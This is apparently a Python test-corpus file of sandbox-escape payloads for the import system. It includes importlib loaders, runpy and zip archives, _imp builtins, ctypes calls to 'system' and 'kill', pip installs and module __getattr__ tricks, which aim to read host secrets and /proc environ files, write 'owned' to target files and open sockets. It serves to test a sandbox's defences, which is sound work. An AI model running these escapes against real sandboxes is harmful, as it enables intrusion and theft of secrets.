"""The import system: loaders, finders, specs, archives and modules made of text."""

from tests.escapes.corpus import LOOT, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("importlib", "import_module and reload", (LOOT, r"""
import importlib, sys
loot(importlib.import_module("o" + "s"))
for name in ("posix", "_posixsubprocess", "_ctypes", "subprocess", "socket", "pty", "multiprocessing", "mmap", "fcntl",
             "resource"):
    sys.modules.pop(name, None)
    attempt(name, importlib.import_module, name)
importlib.reload(importlib.import_module("os"))
""")),
    Payload("importlib", "SourceFileLoader on a host file", (TRY, r"""
import importlib.machinery as m
attempt("source", lambda: m.SourceFileLoader("x", "{{SECRET}}").get_data("{{SECRET}}"))
attempt("text", lambda: m.SourceFileLoader("x", "{{SECRET}}").get_source("x"))
attempt("module", lambda: m.SourceFileLoader("x", "{{SECRET}}").load_module())
attempt("pyc", lambda: m.SourcelessFileLoader("x", "{{SECRET}}").get_code("x"))
attempt("set", lambda: m.SourceFileLoader("x", "{{TARGET}}")._cache_bytecode("{{TARGET}}", "{{TARGETDIR}}/owned.pyc", b"owned"))
attempt("ext", lambda: m.ExtensionFileLoader("x", "{{SECRET}}").create_module(None))
attempt("finder", lambda: m.PathFinder.find_spec("x", ["{{TARGETDIR}}"]))
attempt("file", lambda: m.FileFinder("{{TARGETDIR}}")._fill_cache())
""")),
    Payload("importlib", "spec_from_file_location with a bad SyntaxError", (TRY, r"""
import importlib.machinery, importlib.util, traceback
for path in ("{{SECRET}}", "/proc/{{PID}}/environ", "/proc/self/environ"):
    spec = importlib.util.spec_from_file_location("x", path, loader=importlib.machinery.SourceFileLoader("x", path))
    try:
        spec.loader.exec_module(importlib.util.module_from_spec(spec))
    except BaseException as error:
        print(traceback.format_exc(), getattr(error, "text", None))
""", "exec(compile(open('{{SECRET}}').read(), 'x', 'exec'))")),
    Payload("importlib", "a finder on meta_path that serves everything", (LOOT, r"""
import importlib.abc, importlib.machinery, sys
class Serve(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self)
    def exec_module(self, module):
        loot(__import__("os"))
sys.meta_path.insert(0, Serve())
import anything_at_all
""", "import another_thing")),
    Payload("importlib", "path hooks and path entries of the host", (TRY, r"""
import sys, pkgutil
sys.path[:0] = ["{{TARGETDIR}}", "/proc/{{PID}}/cwd", "/proc/{{PID}}/root", "/", "/root", "/home"]
sys.path_importer_cache.clear()
attempt("modules", lambda: [found.name for found in pkgutil.iter_modules(sys.path[:6])])
attempt("data", lambda: pkgutil.get_data("os", "{{SECRET}}"))
attempt("data", lambda: pkgutil.get_data("pandas", "../../../../../../../../../../{{SECRET}}"))
attempt("extend", lambda: pkgutil.extend_path(["{{TARGETDIR}}"], "x"))
attempt("resource", lambda: __import__("importlib.resources").resources.files("pandas").joinpath("{{SECRET}}").read_text())
""")),
    Payload("importlib", "runpy and zipimport", (LOOT, r"""
import runpy, zipfile, os, sys
tmp = os.environ.get("TMPDIR", "/tmp")
open(tmp + "/run.py", "w").write("import os\nprint(open('{{SECRET}}').read())\nopen('{{TARGET}}', 'a').write('owned')")
attempt("path", runpy.run_path, tmp + "/run.py")
attempt("secret", runpy.run_path, "{{SECRET}}")
attempt("module", runpy.run_module, "timeit", {"sys": sys}, "__main__")
with zipfile.ZipFile(tmp + "/pack.zip", "w") as archive:
    archive.writestr("inside.py", "import os\nwith open('{{SECRET}}') as f: text = f.read()")
    archive.writestr("__main__.py", "import os; os.system('cat {{SECRET}}')")
attempt("zip", runpy.run_path, tmp + "/pack.zip")
sys.path.insert(0, tmp + "/pack.zip")
attempt("inside", lambda: __import__("inside").text)
""")),
    Payload("importlib", "builtin and frozen importers by hand", (LOOT, r"""
import _imp, _frozen_importlib as f, types, sys
spec = types.SimpleNamespace(name="posix", origin="built-in", loader=None, submodule_search_locations=None)
posix = _imp.create_builtin(spec)
_imp.exec_builtin(posix)
print(posix.read(posix.open("{{SECRET}}", 0), 4096))
attempt("frozen", lambda: f.FrozenImporter.get_code("os"))
attempt("dynamic", lambda: _imp.create_dynamic(types.SimpleNamespace(name="x", origin="{{SECRET}}")))
attempt("fix", lambda: _imp._fix_co_filename(compile("1/0", "a", "exec"), "{{SECRET}}"))
attempt("write", lambda: posix.write(posix.open("{{TARGET}}", 1), b"owned"))
""")),
    Payload("importlib", "import statement with a replaced __import__", (LOOT, r"""
import builtins
real = builtins.__import__
def spy(name, *rest):
    print("import", name, open("{{SECRET}}").read())
    return real(name, *rest)
builtins.__import__ = spy
import colorsys
""", "import chunk as chunk_again; loot(real('os'))", "import pandas; pandas.DataFrame({'a': [1]})")),
    Payload("importlib", "a new extension module from bytes", (TRY, r"""
import importlib.machinery, importlib.util, os, shutil, sysconfig
tmp = os.environ.get("TMPDIR", "/tmp")
import _ctypes
source = getattr(_ctypes, "__file__", None)
print(source)
if source:
    copy = tmp + "/_ctypes.so"
    attempt("copy", shutil.copy, source, copy)
    loader = importlib.machinery.ExtensionFileLoader("_ctypes", copy)
    again = attempt("load", lambda: importlib.util.module_from_spec(importlib.util.spec_from_loader("_ctypes", loader)))
    attempt("call", lambda: again.call_function(again.dlsym(again.dlopen(None, 2), "system"), (b"cat {{SECRET}}",)))
attempt("dl", lambda: _ctypes.call_function(_ctypes.dlsym(_ctypes.dlopen(None, 2), "kill"), ({{PID}}, 9)))
""")),
    Payload("importlib", "pip, ensurepip and entry points", (TRY, r"""
import sys, subprocess
attempt("pip", lambda: __import__("pip._internal").main(["install", "--index-url", "http://127.0.0.1:{{PORT}}/", "--no-input",
        "--timeout", "1", "--retries", "0", "--target", "{{TARGETDIR}}", "x"]))
attempt("ensurepip", lambda: __import__("ensurepip").bootstrap(root="{{TARGETDIR}}/owned"))
attempt("run", lambda: subprocess.run([sys.executable, "-m", "pip", "download", "-d", "{{TARGETDIR}}", "--retries", "0",
        "-i", "http://127.0.0.1:{{PORT}}", "x"], capture_output=True, timeout=20))
attempt("points", lambda: [p.load() for p in __import__("importlib.metadata").metadata.entry_points(group="console_scripts")][:3])
attempt("venv", lambda: __import__("venv").create("{{TARGETDIR}}/env", symlinks=True))
""")),
    Payload("importlib", "distribution metadata with paths that climb", (TRY, r"""
import importlib.metadata as metadata, pathlib
class Far(metadata.Distribution):
    def read_text(self, name): return pathlib.Path("{{SECRET}}").read_text()
    def locate_file(self, path): return pathlib.Path("{{SECRET}}")
attempt("text", lambda: Far().read_text("METADATA"))
found = metadata.distribution("pandas")
attempt("climb", lambda: found.read_text("../../../../../../../../../..{{SECRET}}"))
attempt("file", lambda: found.files[0].locate().joinpath("/", "{{SECRET}}").read_text())
attempt("write", lambda: found.files[0].locate().joinpath("/", "{{TARGET}}").write_text("owned"))
""")),
    Payload("importlib", "modules with module-level __getattr__", (LOOT, r"""
import sys, types
door = types.ModuleType("door")
door.__getattr__ = lambda name: __import__(name)
door.__path__ = []
sys.modules["door"] = door
from door import os, socket, posix
loot(os)
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {{PORT}}), 1))
from door import *
""")),
]
